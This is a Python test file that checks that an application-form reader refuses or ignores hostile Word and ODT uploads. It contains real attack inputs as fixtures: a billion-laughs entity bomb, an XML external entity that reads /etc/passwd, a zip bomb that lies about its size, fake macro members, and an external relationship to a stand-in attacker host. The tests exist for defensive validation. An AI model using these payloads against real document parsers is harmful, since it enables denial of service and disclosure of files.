"""Hostile word-processor files: entity bombs, external entities, lying or too many zip members,
macros, external relationships, documents that are not the annex, truncated archives."""

from __future__ import annotations

import io
import struct
import zipfile

import pytest

from documents.annex import annex_docx, read_annex
from models.attachments import FileRefused, check_upload, zip_problem
from models.errors import InvalidInput
from models.forms import SECTIONS
from tests.conftest import PROJECT_ROOT
from tests.documents.filling import arras_payload, fill_docx
from transitions.programmes import load_programme


@pytest.fixture(scope="module")
def filled() -> bytes:
    definition = load_programme(PROJECT_ROOT / "programmes" / "cerdd-2015.yaml").definition
    return fill_docx(annex_docx(definition), arras_payload())


def _rewrite(data: bytes, replace: dict[str, bytes], add: dict[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info)))
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return buffer.getvalue()


def _refusal(data: bytes, name: str = "candidature.docx") -> str:
    with pytest.raises(InvalidInput) as refused:
        read_annex(name, data)
    return " ".join([refused.value.message, *refused.value.details])


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>
<w:t>&lol4;</w:t></w:r></w:p></w:body></w:document>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>
<w:t>&secret;</w:t></w:r></w:p></w:body></w:document>"""


@pytest.mark.parametrize("xml", [BILLION_LAUGHS, EXTERNAL_ENTITY], ids=["billion-laughs", "entite-externe"])
def test_entities_and_dtds_are_refused_unexpanded(filled: bytes, xml: bytes) -> None:
    said = _refusal(_rewrite(filled, {"word/document.xml": xml}))
    assert "déclarations XML interdites (DTD, entités)" in said
    assert "root:" not in said and "lollol" not in said


def _lying(kind: str) -> bytes:
    """A document whose member inflates to 40 MiB while its headers declare 1,000 bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if kind == "odt":
            archive.writestr("mimetype", "application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
        archive.writestr("content.xml" if kind == "odt" else "word/document.xml", b"\0" * (40 * 1024 * 1024))
    data = bytearray(buffer.getvalue())
    local = data.rfind(b"PK\x03\x04")
    struct.pack_into("<I", data, local + 22, 1000)  # local header: uncompressed size
    central = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, 1000)  # central directory: uncompressed size
    return bytes(data)


@pytest.mark.parametrize("kind", ["docx", "odt"])
def test_a_member_lying_about_its_size_is_refused_by_intake_and_reader(kind: str) -> None:
    lying = _lying(kind)
    assert len(lying) < 100 * 1024
    with zipfile.ZipFile(io.BytesIO(lying)) as archive:
        assert sum(info.file_size for info in archive.infolist()) < 2000  # what it declares
    assert "ne fait pas la taille qu'il annonce" in (zip_problem(lying) or "")
    with pytest.raises(FileRefused):
        check_upload(f"formulaire.{kind}", lying, allowed={"docx", "odt"}, field="formulaire")
    assert "ne fait pas la taille qu'il annonce" in _refusal(lying, f"formulaire.{kind}")


def test_too_many_members_are_refused(filled: bytes) -> None:
    crowded = _rewrite(filled, {}, {f"word/media/image{i}.png": b"" for i in range(1000)})
    assert "éléments (limite 1000)" in _refusal(crowded)


@pytest.mark.parametrize("extra", [
    {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"},
    {"Basic/Standard/Module1.xml": b"<script/>"},
], ids=["vbaProject", "basic-odf"])
def test_macros_are_refused(filled: bytes, extra: dict[str, bytes]) -> None:
    assert "contient des macros" in _refusal(_rewrite(filled, {}, extra))


def test_a_macro_enabled_content_type_is_refused(filled: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(filled)) as archive:
        types = archive.read("[Content_Types].xml").replace(
            b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")
    assert "contient des macros" in _refusal(_rewrite(filled, {"[Content_Types].xml": types}), "candidature.docm")


def test_external_relationships_and_embedded_objects_are_ignored(filled: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(filled)) as archive:
        rels = archive.read("word/_rels/document.xml.rels").replace(
            b"</Relationships>",
            b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'oleObject" Target="http://attaquant.example/piege.bin" TargetMode="External"/></Relationships>')
        body = archive.read("word/document.xml").replace(
            b"<w:body>", b'<w:body><w:p><w:r><w:object><w:t>cache</w:t></w:object></w:r></w:p>'
                         b'<w:altChunk r:id="rIdX" xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
                         b'2006/relationships"/>', 1)
    tampered = _rewrite(filled, {"word/_rels/document.xml.rels": rels, "word/document.xml": body},
                        {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})
    assert read_annex("candidature.docx", tampered) == read_annex("candidature.docx", filled)


def test_a_docx_that_is_not_the_annex_is_refused_naming_every_missing_section() -> None:
    from docx import Document

    document = Document()
    document.add_heading("Compte rendu du conseil communautaire", level=1)
    document.add_paragraph("Nom : ordre du jour")
    buffer = io.BytesIO()
    document.save(buffer)
    with pytest.raises(InvalidInput) as refused:
        read_annex("compte-rendu.docx", buffer.getvalue())
    assert "n'est pas le formulaire de candidature de l'appel" in refused.value.message
    assert refused.value.details == [f"{section.title} : rubrique absente du document" for section in SECTIONS]


@pytest.mark.parametrize(("data", "words"), [
    (b"", "le fichier est vide"),
    (b"%PDF-1.4 pas un formulaire", "ni un document Word"),
], ids=["vide", "pdf"])
def test_empty_and_foreign_files_are_refused(data: bytes, words: str) -> None:
    assert words in _refusal(data)


def test_a_truncated_archive_is_refused(filled: bytes) -> None:
    assert "illisible" in _refusal(filled[: len(filled) // 2])
